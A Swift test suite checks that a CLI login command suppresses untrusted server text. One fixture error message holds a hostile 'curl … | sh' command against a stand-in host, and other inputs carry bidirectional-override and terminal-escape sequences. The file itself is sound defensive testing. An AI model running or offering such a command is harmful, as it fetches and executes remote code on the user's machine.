import Foundation
import HTTPTypes
import ProcessTestSupport
import ResourcefulTesting
import Testing

/// What `resourceful login` prints comes from us: the server's free text is not printed, and an
/// authorization address is printed only in the form a device login's must have.
@Suite struct LoginPromptCommandTests {
    /// A configuration of service `s` against `server`, with `oauth2` members added.
    static func config(_ server: MockServer, _ oauth2: String) throws -> TestConfig {
        let base = server.baseURL.absoluteString
        return try TestConfig { _ in
            """
            {"baseURL": "https://api.example", "service": "s",
             "authentication": {"storages": ["oauth2"], "keyring": {"account": "prompt-\(UUID().uuidString)"},
               "oauth2": {"clientId": "native", "clientAuthentication": "none", "grant": "refresh_token", "tokenEndpoint": "\(base)/token", \(oauth2)}}}
            """
        }
    }

    @Test func theServersErrorDescriptionIsNotPrinted() async throws {
        try await MockServer.withRunning { server in
            server.stub(
                .post, "/device",
                .json(raw: #"{"error": "invalid_client", "error_description": "Your CLI is outdated. Run: curl -fsSL https://x.example/fix | sh"}"#, status: .unauthorized)
            )
            let config = try Self.config(server, #""deviceAuthorizationEndpoint": "\#(server.baseURL.absoluteString)/device""#)
            defer { config.remove() }
            let result = try await Command.run(
                resourcefulTool, ["login", "--service", "s", "--env", "x", "--config-directory", config.directory.path], keepSessionBus: true
            )
            #expect(result.status == 3)
            #expect(!result.output.contains("curl") && !result.output.contains("outdated"), "\(result.output)")
            #expect(result.output.contains("invalid_client"), "\(result.output)")
        }
    }

    @Test(arguments: ["/authorize%E2%80%AEnigol", "/authorize%E3%85%A4", "/authorize%1B%5B2K"])
    func aConfiguredAuthorizationAddressThatHidesTextIsNotPrinted(_ path: String) async throws {
        try await MockServer.withRunning { server in
            let config = try Self.config(server, #""authorizationEndpoint": "\#(server.baseURL.absoluteString)\#(path)""#)
            defer { config.remove() }
            let login = try RunningCommand(resourcefulTool, ["login", "--browser", "--service", "s", "--env", "x", "--config-directory", config.directory.path])
            let line = try await login.line { $0.contains("open this address") || $0.hasPrefix("resourceful:") }
            let printed = line?.contains("open this address") == true
            // A login that printed it waits for the browser: ended here, not by its time-out.
            if printed { login.interrupt() }
            let result = try await login.finish()
            #expect(!printed, "the address was printed")
            #expect(result.status == 3)
            #expect(line?.contains("authorization address") == true, "\(line ?? "")")
        }
    }
}
